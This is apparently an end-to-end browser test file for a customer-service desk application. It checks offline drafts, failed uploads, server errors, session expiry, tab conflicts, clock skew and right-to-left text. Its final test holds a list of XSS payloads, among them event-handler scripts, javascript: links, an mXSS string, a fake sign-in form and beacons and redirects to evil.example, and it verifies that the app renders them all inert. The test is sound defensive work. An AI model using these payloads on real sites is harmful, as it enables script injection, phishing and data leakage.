import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { asker, type CaseNow, Desk, quiet } from './desk'
import { admin, axeBoth, closeBrowser, type Look, Person, Served, shot } from './harness'

// What goes wrong at a desk: the line, the server, the session, the clock, a second tab, and words that would be a program.

describe('trouble', () => {
  let served: Served
  let person: Person
  let desk: Desk
  let mine: Record<string, string>
  let made: CaseNow
  const ask = asker({ ask: (...given: Parameters<Served['ask']>) => served.ask(...given) } as Served, () => mine)

  beforeAll(async () => {
    served = await Served.start()
    await served.setUp()
    mine = { Authorization: `Bearer ${await served.token()}` }
  })
  afterAll(async () => {
    await closeBrowser()
    await served.end()
  })
  const take = (texts: Record<string, string>, complainant: unknown = { kind: 'anonymous', reason: 'not_given' }) => ask<CaseNow>('POST', '/cases', { kind: 'complaint', channel: 'email', complainant, texts })
  const come = async (at: string, look: Look = {}, before?: (person: Person) => Promise<unknown>) => {
    person = await Person.arrive(served, { language: 'en', ...look })
    person.expected.push(...quiet)
    await before?.(person)
    await person.enter(at)
    desk = new Desk(person)
  }
  beforeEach(async () => {
    made = await take({ subject: 'The door does not close', verbatim: 'It stays open.' })
  })
  afterEach(() => person.leave())
  const attachments = async () => (await ask<{ events: { event: string }[] }[]>('GET', `/cases/${made.id}/timeline`)).flatMap((e) => e.events).filter((e) => e.event === 'attached').length

  test('a call that was being taken down outlives a cut line and a reload', async () => {
    await come('/inbox')
    const { page } = person
    await page.keyboard.press('c')
    await desk.dialog('New case').waitFor()
    await page.getByRole('textbox', { name: 'Subject' }).fill('No heating')
    await page.getByRole('textbox', { name: /customer’s words/ }).fill('It is cold.')
    person.expected.push(/ERR_INTERNET_DISCONNECTED|Failed to fetch/)
    await person.context.setOffline(true)
    await page.keyboard.press('Control+Enter')
    await page.getByText('What you typed stays in this tab').waitFor()
    await axeBoth(person)
    await page.keyboard.press('Escape')
    await person.context.setOffline(false)
    await page.reload()
    await page.locator('#main').waitFor()
    await page.keyboard.press('c')
    await expect.poll(() => page.getByRole('textbox', { name: 'Subject' }).inputValue()).toBe('No heating')
    await page.getByRole('textbox', { name: 'Subject' }).press('Control+Enter')
    await page.getByRole('heading', { level: 1, name: 'No heating' }).waitFor()
  })

  test('a line that is cut in the middle of an upload: the file stays, and goes by itself when the line is back', async () => {
    await come(`/cases/${made.id}`)
    const { page } = person
    await desk.ready()
    const box = await desk.writer('Reply')
    await box.pressSequentially('See the picture.')
    await page.getByText('Draft saved').waitFor()
    const line = await person.context.newCDPSession(page)
    const speed = (upload: number) => line.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: upload })
    await line.send('Network.enable')
    await speed(200_000)
    await page.locator('input[type=file]').setInputFiles([{ name: 'film.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(1_500_000, 7) }])
    const going = page.getByRole('progressbar', { name: 'Uploading film.bin' })
    await expect.poll(async () => Number(await going.getAttribute('aria-valuenow'))).toBeGreaterThan(5)
    person.expected.push(/ERR_INTERNET_DISCONNECTED|ERR_NETWORK|ERR_FAILED|Failed to fetch|Failed to load resource/)
    await line.send('Network.emulateNetworkConditions', { offline: true, latency: 0, downloadThroughput: -1, uploadThroughput: -1 })
    await page.getByRole('button', { name: 'Upload film.bin again' }).waitFor()
    await axeBoth(person)
    await shot(page, 'trouble-upload')
    expect(await box.textContent()).toBe('See the picture.')
    await speed(-1)
    await page.getByRole('button', { name: 'Upload film.bin again' }).waitFor({ state: 'detached' })
    await page.getByRole('button', { name: 'Remove film.bin' }).waitFor()
    await expect.poll(() => going.count()).toBe(0)
    expect(await attachments()).toBe(1)
    expect(await box.textContent()).toBe('See the picture.')
  })

  test('a server that fails while one sends: it is told, and what was written can be sent again', async () => {
    await come(`/cases/${made.id}`)
    const { page } = person
    await desk.ready()
    const box = await desk.writer('Note')
    await box.pressSequentially('Ordered a new hinge.')
    // Keys are heard once what one may do has come.
    await page.getByText('Draft saved').waitFor()
    person.expected.push(/status of 50\d/)
    let failed = 0
    await page.route('**/sending', (route) => {
      failed += 1
      return failed === 1 ? route.fulfill({ status: 500, contentType: 'text/html', body: '<h1>oops</h1>' }) : route.fulfill({ status: 503, contentType: 'application/problem+json', headers: { 'Retry-After': '1' }, body: JSON.stringify({ type: 'urn:bihuan:problem:store_unavailable', title: 'The store is away.', status: 503, code: 'store_unavailable' }) })
    })
    for (const times of [1, 2]) {
      await page.keyboard.press('Control+Enter')
      await expect.poll(() => failed).toBe(times)
      await page.getByText(times === 1 ? 'The answer of the server was not understood.' : 'The store is away.').first().waitFor()
      expect(await box.textContent()).toBe('Ordered a new hinge.')
    }
    await page.unroute('**/sending')
    await page.keyboard.press('Control+Enter')
    await page.getByText(/Sent in \d+ s/).waitFor()
    expect(await box.count() === 0 || (await box.textContent()) === '').toBe(true)
  })

  test('a session that ends with unsaved words: one signs in in place, and work goes on', async () => {
    await come(`/cases/${made.id}`)
    const { page } = person
    await desk.ready()
    const box = await desk.writer('Reply')
    await box.pressSequentially('Dear Sir, ')
    await page.getByText('Draft saved').waitFor()
    person.expected.push(/status of 401/, /status of 403/)
    await person.endSessionAt('**/drafts/*')
    await box.click()
    await page.keyboard.press('Control+End')
    await page.keyboard.insertText('we will come.')
    const again = desk.dialog('Your session has ended')
    await again.getByLabel('Sign-in name').fill(admin.login)
    await again.getByLabel('Password', { exact: true }).fill(admin.password)
    await page.keyboard.press('Enter')
    await again.waitFor({ state: 'detached' })
    expect(await box.textContent()).toBe('Dear Sir, we will come.')
    await page.getByText('Draft saved').waitFor()
    await box.click()
    await page.keyboard.press('Control+Enter')
    await page.getByText(/Sent in \d+ s/).waitFor()
  })

  test('two tabs of one person: the draft follows, and what one wrote over the other can be had back', async () => {
    await come(`/cases/${made.id}`)
    const [one, two] = [person.page, await person.tab()]
    await desk.ready()
    await two.goto(`/cases/${made.id}`)
    const box = await desk.writer('Reply')
    await box.pressSequentially('First half')
    await one.getByText('Draft saved').waitFor()
    await two.getByRole('group', { name: 'Write' }).getByRole('button', { name: /^Reply/ }).click()
    const other = two.getByRole('textbox', { name: 'Reply', exact: true })
    await expect.poll(() => other.textContent()).toBe('First half')
    await other.click()
    await two.keyboard.press('Control+End')
    await other.pressSequentially(', second half')
    await two.getByText('Draft saved').waitFor()
    await expect.poll(() => box.textContent()).toBe('First half, second half')
    // Both write before either has heard of the other.
    person.expected.push(/status of 409.*\/drafts\/reply$/)
    await one.route('**/drafts/reply', async (route) => {
      if (route.request().method() === 'PUT') await new Promise((done) => setTimeout(done, 1_500))
      await route.continue()
    })
    await box.click()
    await one.keyboard.press('Control+End')
    await box.pressSequentially(' AAA')
    await other.click()
    await two.keyboard.press('Control+End')
    await other.pressSequentially(' BBB')
    const lost = two.getByText('Another tab of yours replaced what stood here.')
    const lostHere = one.getByText('Another tab of yours replaced what stood here.')
    await lost.or(lost).first().waitFor({ timeout: 10_000 }).catch(() => lostHere.waitFor())
    const [where, shown] = (await lost.isVisible()) ? [two, other] : [one, box]
    await where.getByRole('button', { name: 'Bring it back' }).click()
    await expect.poll(() => shown.textContent()).toContain('AAA')
    expect(await shown.textContent()).toContain('BBB')
  })

  test.each([24, -24])('a browser clock that is off by %i hours changes no time that is shown', async (hours) => {
    await come(`/inbox/all_open/${made.id}`, {}, (p) =>
      p.context.addInitScript((off) => {
        const Real = Date
        class Wrong extends Real {
          constructor(...given: [] | [number]) {
            if (given.length === 0) super(Real.now() + off)
            else super(...given)
          }
          static override now(): number {
            return Real.now() + off
          }
        }
        globalThis.Date = Wrong as DateConstructor
      }, hours * 3_600_000),
    )
    const { page } = person
    await page.getByRole('heading', { level: 1 }).waitFor()
    const row = page.getByRole('list', { name: 'All open' }).getByRole('listitem').filter({ has: page.locator(`a[href$="${made.id}"]`) })
    await expect.poll(() => row.locator('time').first().textContent()).toMatch(/now|1 min/)
    // 24 hours from now to answer: not over, and not two days.
    await expect.poll(() => page.getByRole('button', { name: /deadline/ }).textContent()).toMatch(/First response\s*(1 d|23 h|24 h).* left/)
    expect(await row.getByText(/over$/).count()).toBe(0)
    await page.getByText('Today', { exact: true }).waitFor()
    const box = await desk.writer('Note')
    await box.pressSequentially('On time.')
    await page.keyboard.press('Control+Enter')
    await page.getByText(/Sent in (1[0-6]) s/).waitFor()
    await page.getByRole('button', { name: 'Undo' }).click()
    await expect.poll(() => box.textContent()).toBe('On time.')
  })

  test('names and words from right to left, and emoji, stay in their place', async () => {
    const customer = await ask<{ id: string }>('POST', '/customers', { name: 'محمد العربي 👩‍🔧🇸🇦', phone: '13900139000' })
    made = await take({ subject: 'الباب لا يغلق 🚪‼️', verbatim: 'الباب الأمامي (رقم 12) لا يغلق‮ abc', demand: '换门 🙏' }, { kind: 'customer', id: customer.id })
    await come(`/inbox/all_open/${made.id}`)
    const { page } = person
    await page.getByRole('heading', { level: 1, name: 'الباب لا يغلق 🚪‼️' }).waitFor()
    const row = page.getByRole('list', { name: 'All open' }).getByRole('listitem').filter({ has: page.locator(`a[href$="${made.id}"]`) })
    // The time stands at the right end of the row, whatever the name's direction; the number of the case is not reversed.
    const [whole, time] = await Promise.all([row.boundingBox(), row.locator('time').first().boundingBox()])
    expect((whole?.x ?? 0) + (whole?.width ?? 0) - (time?.x ?? 0)).toBeLessThan(120)
    await page.getByText('الباب الأمامي').first().waitFor()
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true)
    await axeBoth(person)
    await shot(page, 'trouble-rtl')
  })

  const hacks = [
    '<img src=x onerror="hacked(1)">',
    '<svg onload="hacked(2)"><animate onbegin="hacked(3)" attributeName=x dur=1s></svg>',
    '<a href="javascript:hacked(4)">press me</a><a href=" jAva&#x09;script:hacked(5)">press me too</a>',
    '</p></div></main><script>hacked(6)</script>',
    '<style>body{display:none!important}*{background:url(https://evil.example/x)}</style>',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">COVER</div>',
    '<iframe srcdoc="<script>parent.hacked(7)</script>"></iframe><object data="javascript:hacked(8)"></object><embed src="https://evil.example/">',
    '<form action="https://evil.example/"><button formaction="javascript:hacked(9)">Sign in again</button><input name=password></form>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked(10)&gt;">',
    '<img src="https://evil.example/pixel.gif"><link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<details open ontoggle=hacked(11)><summary>x</summary></details><input autofocus onfocus=hacked(12)><video><source onerror=hacked(13)></video>',
  ]

  test('markup, scripts and styles in whatever people say are words, and nothing of it runs', async () => {
    const nasty = '"><img src=x onerror="hacked(20)"><script>hacked(21)</script>{{hacked(22)}}'
    const customer = await ask<{ id: string }>('POST', '/customers', { name: `Bobby ${nasty}`, phone: '13700137000' })
    made = await take({ subject: `Subject ${nasty}`, verbatim: hacks.join('\n'), demand: nasty }, { kind: 'customer', id: customer.id })
    for (const [n, html] of hacks.entries()) await ask('POST', `/cases/${made.id}/messages`, { direction: 'inbound', format: 'html', text: `<p>mark ${n}</p>${html}` })
    await ask('POST', `/cases/${made.id}/notes`, { format: 'html', text: `<p>note</p>${hacks.join('')}` })
    await ask('POST', `/cases/${made.id}/messages`, { direction: 'inbound', text: hacks.join('\n') })
    const form = new FormData()
    form.append('file', new Blob(['<svg xmlns="http://www.w3.org/2000/svg" onload="hacked(30)"><script>hacked(31)</script></svg>'], { type: 'image/svg+xml' }), '"><img src=x onerror=hacked(32)>.svg')
    expect((await fetch(`${served.base}/api/v1/cases/${made.id}/attachments`, { method: 'POST', headers: mine, body: form })).status).toBe(201)
    await come('/inbox', {}, async (p) => {
      await p.context.exposeFunction('hacked', (n: number) => p.broken.push(`hacked: ${n}`))
    })
    const { page } = person
    page.on('dialog', (dialog) => {
      person.broken.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await page.goto(`/inbox/all_open/${made.id}`)
    await page.getByText(`mark ${hacks.length - 1}`).first().waitFor()
    await page.getByText('note', { exact: true }).first().waitFor()
    for (const link of await page.getByText(/^press me/).all()) await link.click({ timeout: 2_000 }).catch(() => undefined)
    expect(page.url()).toContain(made.id)
    expect(await page.locator('.rich').locator('script, style, iframe, object, embed, form, input, svg, link, meta, [style], [onerror], [onload], a[href^="javascript" i], img[src*="//"]').count()).toBe(0)
    // Nothing covers the page, and the page is still there.
    expect(await page.evaluate(() => document.elementFromPoint(5, 5)?.textContent?.includes('COVER'))).not.toBe(true)
    expect(await page.locator('#main').isVisible()).toBe(true)
    expect(await page.getByText('{{hacked(22)}}').count()).toBeGreaterThan(0)
    // Also where it is said once more: the palette, the table, the customer's page, an answer that quotes.
    await page.keyboard.press('Control+k')
    await page.getByRole('combobox', { name: 'Search or run' }).fill('Bobby')
    await page.getByRole('option').first().waitFor()
    await page.keyboard.press('Escape')
    await page.goto(`/customers/${customer.id}`)
    await page.getByRole('heading', { level: 1 }).waitFor()
    await desk.open(made.id)
    const box = await desk.writer('Reply')
    // So far nothing even tried. What is pasted the browser itself parses apart from the page, and logs what its policy forbids there.
    expect(person.broken.filter((b) => !person.expected.some((e) => e.test(b)))).toEqual([])
    person.expected.push(/Executing inline event handler|Applying inline style/)
    await page.evaluate((html) => navigator.clipboard.write([new ClipboardItem({ 'text/html': new Blob([html], { type: 'text/html' }), 'text/plain': new Blob(['x'], { type: 'text/plain' }) })]), hacks.join(''))
    await page.keyboard.press('Control+v')
    await expect.poll(() => box.textContent()).toContain('press me')
    expect(await box.locator('script, style, iframe, [onerror], [style], a[href^="javascript" i]').count()).toBe(0)
    await page.getByText('Draft saved').waitFor()
    await page.reload()
    await expect.poll(() => page.getByRole('textbox', { name: 'Reply', exact: true }).textContent()).toContain('press me')
    // The picture that is a program is handed over as a file, in a sandbox at most.
    const file = (await ask<{ attachments: { id: string }[] }[]>('GET', `/cases/${made.id}/timeline`)).flatMap((e) => e.attachments)[0]
    const content = await fetch(`${served.base}/api/v1/attachments/${file?.id}/content`, { headers: mine })
    expect(content.headers.get('content-type')).toMatch(/^(text\/plain|application\/octet-stream)/)
    expect(content.headers.get('x-content-type-options')).toBe('nosniff')
    expect(content.headers.get('content-security-policy')).toContain('sandbox')
    expect(person.broken.filter((b) => b.startsWith('hacked'))).toEqual([])
  })
})
